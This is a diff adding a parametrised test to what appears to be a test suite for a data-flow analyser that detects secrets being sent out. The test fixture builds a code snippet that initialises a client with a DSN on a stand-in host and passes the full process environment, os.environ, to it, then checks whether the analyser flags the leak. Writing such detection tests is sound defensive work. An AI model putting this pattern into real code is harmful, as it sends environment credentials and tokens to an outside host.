@@ -210,3 +210,11 @@ def test_what_makes_requests_of_requests_comes_to_an_end() -> None:
     )
     found = {one.target[-1] for one in flows(text, Act.SEND, "wheel")}
     assert found == set("abcde")
+
+
+@pytest.mark.parametrize(("name", "sends"), [("watcher", True), ("sample", False)])
+def test_modules_of_the_artifact_are_no_clients(name: str, sends: bool) -> None:
+    text = (
+        f"import {name}.base, {name}.text\n{name}.base.init(dsn='https://x@c.example.invalid/1')\n"
+    )
+    assert bool(stolen(f"{text}{name}.text.hide_value(repr(dict(os.environ)))")) is sends
